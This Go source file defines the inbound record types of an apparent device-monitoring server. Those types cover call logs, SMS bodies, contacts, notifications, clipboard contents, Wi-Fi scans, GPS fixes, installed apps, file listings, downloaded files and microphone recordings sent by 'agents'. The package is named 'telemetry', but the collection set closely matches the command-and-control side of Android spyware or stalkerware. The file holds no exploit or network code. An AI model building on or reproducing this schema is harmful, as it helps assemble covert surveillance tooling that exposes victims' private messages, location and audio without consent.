package telemetry

import (
	"strconv"
	"time"
)

// Inbound record shapes. List kinds (calls, sms, contacts, files, apps) arrive
// as arrays carrying a full dump; event kinds (notifications, clipboard,
// permission grants) arrive one record at a time.

type CallRecord struct {
	PhoneNo   string `json:"phone_no"`
	Name      string `json:"name,omitempty"`
	Duration  int    `json:"duration"`
	Type      int    `json:"type"`
	Timestamp int64  `json:"timestamp"`
}

func (r CallRecord) DedupeKey() string {
	return hashKey(r.PhoneNo, strconv.FormatInt(r.Timestamp, 10))
}

type SMSRecord struct {
	Address string `json:"address"`
	Body    string `json:"body"`
	Date    int64  `json:"date"`
	Type    int    `json:"type"`
	Read    bool   `json:"read"`
}

func (r SMSRecord) DedupeKey() string {
	return hashKey(r.Address, r.Body)
}

type ContactRecord struct {
	PhoneNo string `json:"phone_no"`
	Name    string `json:"name"`
}

func (r ContactRecord) DedupeKey() string {
	return hashKey(r.PhoneNo, r.Name)
}

type NotificationRecord struct {
	Key      string `json:"key"`
	AppName  string `json:"app_name"`
	Title    string `json:"title"`
	Content  string `json:"content"`
	PostTime int64  `json:"post_time"`
}

func (r NotificationRecord) DedupeKey() string {
	return hashKey(r.Key, r.Content)
}

type ClipboardRecord struct {
	Time    int64  `json:"time"`
	Content string `json:"content"`
}

func (r ClipboardRecord) DedupeKey() string {
	return hashKey(strconv.FormatInt(r.Time, 10), r.Content)
}

// WifiReport is the full scan an agent pushes: the current reading replaces
// the wifi snapshot wholesale, while each network upserts into the wifi log.
type WifiReport struct {
	Enabled  bool          `json:"enabled"`
	Networks []WifiNetwork `json:"networks"`
}

type WifiNetwork struct {
	SSID      string `json:"ssid"`
	BSSID     string `json:"bssid"`
	Frequency int    `json:"frequency,omitempty"`
	Level     int    `json:"level,omitempty"`
}

func (r WifiNetwork) DedupeKey() string {
	return hashKey(r.SSID, r.BSSID)
}

// gpsFix is the wire shape of a location fix. Latitude and longitude are
// pointers so an absent coordinate is distinguishable from a zero one.
type gpsFix struct {
	Latitude  *float64 `json:"latitude"`
	Longitude *float64 `json:"longitude"`
	Altitude  float64  `json:"altitude"`
	Accuracy  float64  `json:"accuracy"`
	Speed     float64  `json:"speed"`
	Enabled   bool     `json:"enabled"`
}

// GPSFix is the stored form: always appended, never deduplicated.
type GPSFix struct {
	Latitude  float64 `json:"latitude"`
	Longitude float64 `json:"longitude"`
	Altitude  float64 `json:"altitude"`
	Accuracy  float64 `json:"accuracy"`
	Speed     float64 `json:"speed"`
	Enabled   bool    `json:"enabled"`
}

type FileEntry struct {
	Name  string `json:"name"`
	IsDir bool   `json:"is_dir"`
	Size  int64  `json:"size"`
}

type AppRecord struct {
	Name        string `json:"name"`
	Package     string `json:"package"`
	VersionName string `json:"version_name,omitempty"`
	VersionCode int    `json:"version_code,omitempty"`
}

// binaryPayload is the wire shape agents use to return file contents (files
// kind with a download action, mic recordings). Data is base64 on the wire.
type binaryPayload struct {
	IsFile bool   `json:"is_file"`
	Name   string `json:"name"`
	Data   []byte `json:"data"`
}

// Download sub-types, recorded in the download log.
const (
	DownloadTypeFile  = "download"
	DownloadTypeVoice = "voiceRecord"
)

// DownloadEntry is the server-derived log record written after a binary
// payload has been persisted.
type DownloadEntry struct {
	Time         time.Time `json:"time"`
	Type         string    `json:"type"`
	OriginalName string    `json:"original_name"`
	Path         string    `json:"path"`
}

type permissionGrant struct {
	Permission string `json:"permission"`
}
